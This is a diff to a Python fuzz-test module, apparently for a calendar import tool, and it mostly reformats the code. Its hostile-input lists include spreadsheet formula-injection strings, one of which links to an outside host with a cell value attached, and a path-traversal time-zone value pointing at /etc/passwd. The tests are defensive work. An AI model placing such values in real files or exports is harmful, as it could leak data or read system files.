@@ -38,7 +38,7 @@ HOSTILE_ICS_LINES = [
     "DTSTART:20260310T100000Z",
     "DTEND:20260310T105000Z",
     "DURATION:PT50M",
-    "UID:=HYPERLINK(\"http://x/?\"&B2)",
+    'UID:=HYPERLINK("http://x/?"&B2)',
     "DTSTART;TZID=" + "A" * 300 + ":20260310T100000",
     "DTSTART;TZID=../../../etc/passwd:20260310T100000",
     "DTSTART:00010101T000000Z",
@@ -63,7 +63,7 @@ HOSTILE_CSV_CELLS = [
     "2026-03-10T10:00+24:00",
     "0001-01-01T00:00+05:00",
     "9999-12-31T23:59-05:00",
-    "=HYPERLINK(\"http://x\")",
+    '=HYPERLINK("http://x")',
     "-1",
     "1e308",
     "NaN",
@@ -130,14 +130,16 @@ def mutated_csv(draw: st.DrawFn) -> str:
 
 def _environment() -> dict[str, str]:
     env = dict(os.environ)
-    env["PYTHONPATH"] = os.pathsep.join([str(SRC), *filter(None, env.get("PYTHONPATH", "").split(os.pathsep))])
+    env["PYTHONPATH"] = os.pathsep.join(
+        [str(SRC), *filter(None, env.get("PYTHONPATH", "").split(os.pathsep))]
+    )
     env["PYTHONIOENCODING"] = "utf-8"
     env.pop(_csv_secret_variable(), None)
     return env
 
 
 def _csv_secret_variable() -> str:
-    from sessionkit.cli import CSV_KEY_SECRET_ENV  # noqa: PLC0415
+    from sessionkit.cli import CSV_KEY_SECRET_ENV
 
     return CSV_KEY_SECRET_ENV
 
@@ -218,6 +220,8 @@ def test_import_of_mutated_ics_files(
 
 @FUZZ
 @given(text=mutated_csv())
-def test_import_of_mutated_csv_files(text: str, template: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
+def test_import_of_mutated_csv_files(
+    text: str, template: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
     """A mutated CSV calendar: exit 0/1/2, one stderr line on 2, intact database, re-import creates nothing."""
     _fuzz_once(template, text, ".csv", tmp_path_factory.mktemp("csv"))
